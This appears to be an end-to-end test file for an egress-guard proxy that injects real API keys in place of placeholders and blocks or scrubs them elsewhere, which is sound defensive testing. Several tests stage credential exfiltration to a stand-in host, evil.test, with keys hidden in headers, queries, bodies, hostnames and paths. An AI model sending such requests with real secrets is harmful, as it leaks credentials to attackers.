// The secret in both directions (docs/spec.md §13), end to end on every engine with curl, Node's
// fetch and Python: placeholders swapped for real keys in headers of their own provider's
// requests (Basic included), the tripwire on a placeholder or key bound anywhere else (header,
// query, body; allow and deny modes; report-only too), and responses that reflect the key
// (headers, JSON, gzip/deflate/br, chunks split mid-value, server-sent events, base64 and URL
// forms, WebSocket frames) reaching the client with the placeholder instead.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import * as E from 'fp-ts/lib/Either.js'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import WebSocket from 'ws'
import http from 'node:http'
import { connect as tlsConnect } from 'node:tls'
import type { Duplex } from 'node:stream'

import { placeholder } from '../../adapters/cli/placeholders.js'
import { parsePolicyText } from '../../adapters/config/PolicyFile.js'
import { createGuard, type Guard } from '../../adapters/guard/createGuard.js'
import type { AuditEntry, RunningProxy } from '../../adapters/ports.js'
import { curl, nodeFetch, pythonUrllib, type Answer } from './support/clients.js'
import { startEchoUpstream, type EchoUpstream } from './support/echoUpstream.js'
import { ADAPTERS, startProxy, type AdapterName } from './support/harness.js'
import { createPki } from './support/pki.js'
import { exchange, openTunnel } from './support/rawTunnel.js'

const REAL = { alpha: 'sk-real-alpha-0123456789abcdef', beta: 'real-beta-key-fedcba9876543210' } as const

const policy = (mode: string, extra = ''): string => `
mode: ${mode}
inspect: all
providers:
  - { name: alpha, apiUrl: "https://api.alpha.test/", envVar: ALPHA_KEY, keyPrefix: "sk-" }
  - { name: beta, apiUrl: "https://api.beta.test/", envVar: BETA_KEY }
connections:
  - { provider: alpha, name: default, credentials: { headers: { Authorization: "Bearer \${env:ALPHA_KEY}" } } }
  - { provider: beta, name: default, credentials: { headers: { x-api-key: "\${env:BETA_KEY}" } } }
${extra}`

interface Setup {
  readonly proxy: RunningProxy
  readonly guard: Guard
  readonly echo: EchoUpstream
  readonly placeholders: { readonly alpha: string; readonly beta: string }
  readonly bundle: string
  readonly caPem: string
  readonly records: Array<AuditEntry>
  readonly close: () => Promise<void>
}

const start = async (adapter: AdapterName, mode: string, enforcement?: 'report'): Promise<Setup> => {
  const pki = createPki()
  const echo = await startEchoUpstream(pki.leaf(['api.alpha.test', 'api.beta.test', 'evil.test']))
  const loaded = parsePolicyText(policy(mode), 'test policy')
  if (E.isLeft(loaded)) throw new Error(loaded.left.messages.join('\n'))
  const records: Array<AuditEntry> = []
  const guard = createGuard({
    policy: loaded.right,
    env: { ALPHA_KEY: REAL.alpha, BETA_KEY: REAL.beta },
    audit: { write: (entry) => void records.push(entry), flush: async () => undefined, close: async () => undefined, dropped: () => 0 },
    log: () => undefined,
    ...(enforcement === undefined ? {} : { enforcement })
  })
  const placeholders = { alpha: placeholder('sk-'), beta: placeholder() }
  guard.handOut([
    { variable: 'ALPHA_KEY', value: placeholders.alpha },
    { variable: 'BETA_KEY', value: placeholders.beta }
  ])
  const dir = mkdtempSync(join(tmpdir(), 'eg-secrets-'))
  const proxy = await startProxy(adapter, {
    guard,
    configDir: join(dir, 'config'),
    upstreamCa: [pki.caPem],
    connectTo: ['api.alpha.test', 'api.beta.test', 'evil.test'].map((host) => ({ host, port: 443, toHost: '127.0.0.1', toPort: echo.port })),
    log: () => undefined
  })
  const bundle = join(dir, 'bundle.pem')
  writeFileSync(bundle, proxy.caCertPem)
  return {
    proxy,
    guard,
    echo,
    placeholders,
    bundle,
    caPem: proxy.caCertPem,
    records,
    close: async () => {
      await proxy.close()
      await guard.close()
      await echo.close()
      rmSync(dir, { recursive: true, force: true })
    }
  }
}

type Client = 'curl' | 'node' | 'python'
const CLIENTS: ReadonlyArray<Client> = ['curl', 'node', 'python']

/** A GET (or a POST with `body`) through the proxy with the named client. */
const send = (setup: Setup, client: Client, url: string, headers: Record<string, string> = {}, body?: string): Promise<Answer> => {
  if (client === 'curl' || body !== undefined) {
    const args = [...Object.entries(headers).flatMap(([name, value]) => ['-H', `${name}: ${value}`]), ...(body === undefined ? [] : ['--data-binary', body, '-H', 'content-type: application/json'])]
    return curl(setup.proxy.url, setup.bundle, url, args)
  }
  return client === 'node' ? nodeFetch(setup.proxy.url, setup.caPem, url, headers) : pythonUrllib(setup.proxy.url, setup.bundle, url, headers)
}

const lastDeny = (setup: Setup): AuditEntry | undefined => setup.records.filter((r) => r.event === 'proxy_deny').at(-1)

/** Every form of a value a client could decode. */
const forms = (value: string): ReadonlyArray<string> => [value, Buffer.from(value).toString('base64').slice(0, -4), encodeURIComponent(value)]

const leaks = (text: string, value: string): boolean => forms(value).some((form) => form.length > 8 && text.includes(form))

/**
 * Opens a WebSocket to api.alpha.test through the proxy: collects the first `count` messages and
 * the pings, then asks the upstream to close, and resolves with its close reason too.
 */
const webSocketMessages = (setup: Setup, count: number): Promise<{ messages: ReadonlyArray<string>; pings: ReadonlyArray<string>; reason: string }> =>
  new Promise((resolve, reject) => {
    const connect = http.request({ host: '127.0.0.1', port: setup.proxy.port, method: 'CONNECT', path: 'api.alpha.test:443' })
    connect.on('error', reject)
    connect.on('connect', (_response, socket: Duplex) => {
      const messages: Array<string> = []
      const pings: Array<string> = []
      const ws = new WebSocket('wss://api.alpha.test/ws', {
        perMessageDeflate: true,
        createConnection: () => tlsConnect({ socket: socket as never, servername: 'api.alpha.test', ca: setup.caPem })
      })
      ws.on('ping', (data) => pings.push(data.toString()))
      ws.on('message', (data) => {
        messages.push(data.toString())
        if (messages.length === count) ws.send('close-me')
      })
      ws.on('close', (_code, reason) => resolve({ messages, pings, reason: reason.toString() }))
      ws.on('error', reject)
    })
    connect.end()
  })

/** The status line and headers of a raw CONNECT to `authority`. */
const rawConnect = (setup: Setup, authority: string): Promise<string> =>
  new Promise((resolve) => {
    const connect = http.request({ host: '127.0.0.1', port: setup.proxy.port, method: 'CONNECT', path: authority })
    connect.on('error', () => resolve('(error)'))
    connect.on('connect', (response, socket: Duplex) => {
      socket.destroy()
      resolve(`${response.statusCode ?? 0} ${response.headers['x-egress-guard-reason'] ?? ''}`)
    })
    connect.on('response', (response) => resolve(`${response.statusCode ?? 0} ${response.headers['x-egress-guard-reason'] ?? ''}`))
    connect.end()
  })

describe.each(ADAPTERS)('secrets in both directions on %s', (adapter) => {
  describe('connected_allow', () => {
    let setup: Setup
    beforeAll(async () => {
      setup = await start(adapter, 'connected_allow')
    })
    afterAll(async () => {
      await setup.close()
    })

    it.each(CLIENTS)('swaps a placeholder in a header of its own provider for the real key (%s)', async (client) => {
      const answer = await send(setup, client, 'https://api.alpha.test/v1/x', { 'x-custom-key': setup.placeholders.alpha })
      expect(answer.status).toBe(200)
      const seen = setup.echo.received.at(-1)
      expect(seen?.headers['x-custom-key']).toBe(REAL.alpha)
      expect(seen?.headers.authorization).toBe(`Bearer ${REAL.alpha}`)
    })

    it.each(CLIENTS)('swaps a placeholder inside Basic credentials, decoded and encoded again (%s)', async (client) => {
      const basic = `Basic ${Buffer.from(`x-access-token:${setup.placeholders.beta}`).toString('base64')}`
      const answer = await send(setup, client, 'https://api.beta.test/repo', { authorization: basic })
      expect(answer.status).toBe(200)
      const seen = setup.echo.received.at(-1)
      expect(seen?.headers.authorization).toBe(`Basic ${Buffer.from(`x-access-token:${REAL.beta}`).toString('base64')}`)
      expect(seen?.headers['x-api-key']).toBe(REAL.beta)
    })

    it.each(CLIENTS)('trips on a placeholder in a header bound for a host no route of its provider covers (%s)', async (client) => {
      const before = setup.echo.received.length
      const answer = await send(setup, client, 'https://evil.test/collect', { 'x-stolen': setup.placeholders.alpha })
      expect(answer.status).toBe(403)
      expect(answer.body).toContain('credential_exfiltration')
      expect(setup.echo.received.length).toBe(before)
      const record = lastDeny(setup)
      expect(record?.provider).toBe('alpha')
      expect(record?.metadata).toMatchObject({ reason: 'credential_exfiltration', location: 'header x-stolen', host: 'evil.test' })
      expect(JSON.stringify(setup.records)).not.toContain(setup.placeholders.alpha)
    })

    it('trips on a key in the query, URL-encoded, and on another provider’s route', async () => {
      const before = setup.echo.received.length
      const inQuery = await send(setup, 'curl', `https://evil.test/c?k=${encodeURIComponent(REAL.alpha).replace(/-/g, '%2D')}`)
      expect(inQuery.status).toBe(403)
      expect(lastDeny(setup)?.metadata).toMatchObject({ location: 'query' })
      const toBeta = await send(setup, 'curl', 'https://api.beta.test/x', { 'x-forward': setup.placeholders.alpha })
      expect(toBeta.status).toBe(403)
      expect(lastDeny(setup)?.provider).toBe('alpha')
      expect(setup.echo.received.length).toBe(before)
    })

    it('trips on a key in a JSON body and on a base64 form of a placeholder in a form body', async () => {
      const before = setup.echo.received.length
      const json = await send(setup, 'curl', 'https://evil.test/upload', {}, JSON.stringify({ padding: 'x'.repeat(40_000), key: REAL.beta }))
      expect(json.status).toBe(403)
      expect(lastDeny(setup)).toMatchObject({ provider: 'beta', metadata: { location: 'body' } })
      const encoded = await send(setup, 'curl', 'https://evil.test/upload', {}, `a=1&blob=${Buffer.from(`:${setup.placeholders.alpha}`).toString('base64')}`)
      expect(encoded.status).toBe(403)
      expect(setup.echo.received.length).toBe(before)
      // A body with nothing known in it still goes, whole.
      const clean = await send(setup, 'curl', 'https://evil.test/upload', {}, JSON.stringify({ padding: 'y'.repeat(100_000) }))
      expect(clean.status).toBe(200)
      expect(setup.echo.received.at(-1)?.body.length).toBe(JSON.stringify({ padding: 'y'.repeat(100_000) }).length)
    })

    it('stops a body whose secret comes split across two writes, before the rest reaches the upstream; a clean body streams on', async () => {
      const before = setup.echo.received.length
      const secret = setup.placeholders.beta
      const body = `{"padding": "${'z'.repeat(2_000)}", "key": "${secret}"}`
      const cut = body.indexOf(secret) + 12
      const head = `POST /upload HTTP/1.1\r\nHost: api.alpha.test\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`
      const tunnel = await openTunnel(setup.proxy.port, setup.caPem, 'api.alpha.test', ['http/1.1'])
      const answer = await exchange(tunnel!, [head + body.slice(0, cut), body.slice(cut)], 300)
      expect(answer).toMatch(/^HTTP\/1\.1 403 /)
      expect(answer).toContain('credential_exfiltration')
      expect(setup.echo.received.length).toBe(before)
      expect(lastDeny(setup)).toMatchObject({ provider: 'beta', metadata: { location: 'body' } })
      // The inspected start is 64 KiB (and the chunk that crosses it): a secret well after it goes
      // on (docs/policy.md says so).
      const late = JSON.stringify({ padding: 'w'.repeat(1_000_000), key: secret })
      const file = join(mkdtempSync(join(tmpdir(), 'eg-late-')), 'late.json')
      writeFileSync(file, late)
      expect((await curl(setup.proxy.url, setup.bundle, 'https://api.alpha.test/upload', ['--data-binary', `@${file}`, '-H', 'content-type: application/json'])).status).toBe(200)
      expect(setup.echo.received.at(-1)?.body).toBe(late)
    })

    it.each(CLIENTS)('scrubs the injected key from reflected headers and a JSON body (%s)', async (client) => {
      const answer = await send(setup, client, 'https://api.alpha.test/echo')
      expect(answer.status).toBe(200)
      expect(leaks(answer.body, REAL.alpha)).toBe(false)
      expect(answer.body).toContain(setup.placeholders.alpha)
      if (answer.headers !== undefined) {
        expect(answer.headers['x-echo-authorization']).toBe(`Bearer ${setup.placeholders.alpha}`)
        expect(answer.headers['x-echo-secret']).toBe(setup.placeholders.alpha)
      }
    })

    it.each(['gzip', 'deflate', 'br'])('decodes a %s body to scrub it, and sends it decoded', async (coding) => {
      const answer = await send(setup, 'curl', `https://api.alpha.test/echo/${coding}`, {}, undefined)
      expect(answer.status).toBe(200)
      const parsed = JSON.parse(answer.body) as { headers: Record<string, string> }
      expect(parsed.headers.authorization).toBe(`Bearer ${setup.placeholders.alpha}`)
      expect(leaks(answer.body, REAL.alpha)).toBe(false)
    })

    it('scrubs a value split across chunks, a server-sent event, and base64 and URL-encoded forms', async () => {
      const split = await send(setup, 'curl', 'https://api.alpha.test/echo/split')
      expect(split.body).toBe(`before ${setup.placeholders.alpha} after`)
      const events = await send(setup, 'node', 'https://api.alpha.test/echo/sse')
      expect(events.body).toBe(`data: {"key": "${setup.placeholders.alpha}"}\n\ndata: [DONE]\n\n`)
      const encoded = await send(setup, 'python', 'https://api.alpha.test/echo/encoded')
      expect(encoded.status).toBe(200)
      expect(leaks(encoded.body, REAL.alpha)).toBe(false)
      expect(encoded.body).toContain(`component=${setup.placeholders.alpha}`)
      expect(encoded.body).not.toContain(Buffer.from(`user:${REAL.alpha}`).toString('base64').slice(8, -4))
    })

    it('decodes a transfer coding the HTTP layer leaves on (gzip inside the chunks) to scrub it', async () => {
      const answer = await send(setup, 'curl', 'https://api.alpha.test/echo/te-gzip')
      expect(answer.status).toBe(200)
      expect((JSON.parse(answer.body) as { headers: Record<string, string> }).headers.authorization).toBe(`Bearer ${setup.placeholders.alpha}`)
    })

    it('scrubs the status line’s reason and the trailers, and passes no informational answer on', async () => {
      const raw = async (path: string): Promise<string> => {
        const tunnel = await openTunnel(setup.proxy.port, setup.caPem, 'api.alpha.test', ['http/1.1'])
        return exchange(tunnel!, [`GET ${path} HTTP/1.1\r\nHost: api.alpha.test\r\nTE: trailers\r\n\r\n`], 400)
      }
      for (const path of ['/echo/status', '/echo/trailer', '/echo/early']) {
        const answer = await raw(path)
        expect(answer).toMatch(/^HTTP\/1\.1 200 /)
        expect(answer).not.toContain(REAL.alpha)
      }
    })

    it('refuses a host name, a header name or a method that carries a secret, before looking the name up, and records none of it', async () => {
      const before = setup.echo.received.length
      expect(await rawConnect(setup, `${REAL.alpha}.evil.test:443`)).toBe('403 credential_exfiltration')
      expect(lastDeny(setup)).toMatchObject({ provider: 'alpha', metadata: { host: '[redacted]', location: 'host' } })
      expect((await send(setup, 'curl', 'https://evil.test/n', { [REAL.alpha]: '1' })).status).toBe(403)
      expect(lastDeny(setup)?.metadata['location']).toBe('header')
      expect((await send(setup, 'curl', 'https://evil.test/h', { host: setup.placeholders.alpha })).status).toBe(403)
      // An unknown method: refused by the tripwire, or before it by an HTTP/1 parser (400).
      expect([400, 403]).toContain((await curl(setup.proxy.url, setup.bundle, 'https://evil.test/m', ['-X', REAL.beta])).status)
      expect((await send(setup, 'curl', `https://evil.test/a/${setup.placeholders.alpha}/b`)).status).toBe(403)
      expect(lastDeny(setup)?.request).toMatchObject({ path: '/[redacted]' })
      expect(setup.echo.received.length).toBe(before)
      const records = JSON.stringify(setup.records)
      for (const secret of [REAL.alpha, REAL.beta, setup.placeholders.alpha, setup.placeholders.beta]) expect(records).not.toContain(secret)
    })

    it('never holds up an interactive body: the upstream answers its first line before the body ends', async () => {
      const tunnel = await openTunnel(setup.proxy.port, setup.caPem, 'api.alpha.test', ['http/1.1'])
      const line = '{"line": "hi"}\n'
      const head = `POST /echo/interactive HTTP/1.1\r\nHost: api.alpha.test\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`
      const answer = await exchange(tunnel!, [`${head}${line.length.toString(16)}\r\n${line}\r\n`], 800)
      expect(answer).toMatch(/^HTTP\/1\.1 200 /)
      expect(answer).toContain('got {"line": "hi"}')
    })

    it('refuses a response in a coding it cannot read, and asks only for codings it can', async () => {
      const answer = await send(setup, 'curl', 'https://api.alpha.test/echo/zstd', { 'accept-encoding': 'zstd, br' })
      expect(answer.status).toBe(502)
      expect(answer.body).not.toContain(REAL.alpha)
      expect(setup.echo.received.at(-1)?.headers['accept-encoding']).toBe('br')
    })

    it('scrubs WebSocket messages from the upstream, text whole and fragmented and binary, pings, and its close reason', async () => {
      const { messages, pings, reason } = await webSocketMessages(setup, 3)
      expect(messages).toEqual([`whole ${setup.placeholders.alpha}`, `split ${setup.placeholders.alpha} end`, `binary ${setup.placeholders.alpha}`])
      expect(pings).toEqual([`ping ${setup.placeholders.alpha}`])
      expect(reason).toBe(`bye ${setup.placeholders.alpha}`)
      // Frames reach the scrubber uncompressed: the upgrade goes without extensions (http-mitm-proxy's
      // own WebSocket client decompresses the messages it hands over, and may ask for them).
      if (adapter !== 'http-mitm-proxy') expect(setup.echo.received.at(-1)?.headers['sec-websocket-extensions']).toBeUndefined()
    })
  })

  describe.each([['connected_deny', undefined], ['configured_allow', 'report']] as const)('%s, enforcement %s', (mode, enforcement) => {
    let setup: Setup
    beforeAll(async () => {
      setup = await start(adapter, mode, enforcement)
    })
    afterAll(async () => {
      await setup.close()
    })

    it('trips on a placeholder bound for another provider’s route, whatever the mode and enforcement', async () => {
      const answer = await send(setup, 'curl', 'https://api.beta.test/x', { 'x-forward': setup.placeholders.alpha })
      expect(answer.status).toBe(403)
      expect(lastDeny(setup)?.metadata).toMatchObject({ reason: 'credential_exfiltration', location: 'header x-forward' })
    })

    it('still injects and swaps on the provider’s own route', async () => {
      const answer = await send(setup, 'curl', 'https://api.alpha.test/echo', { 'x-custom-key': setup.placeholders.alpha })
      expect(answer.status).toBe(200)
      expect(setup.echo.received.at(-1)?.headers['x-custom-key']).toBe(REAL.alpha)
      expect(leaks(answer.body, REAL.alpha)).toBe(false)
    })
  })
})
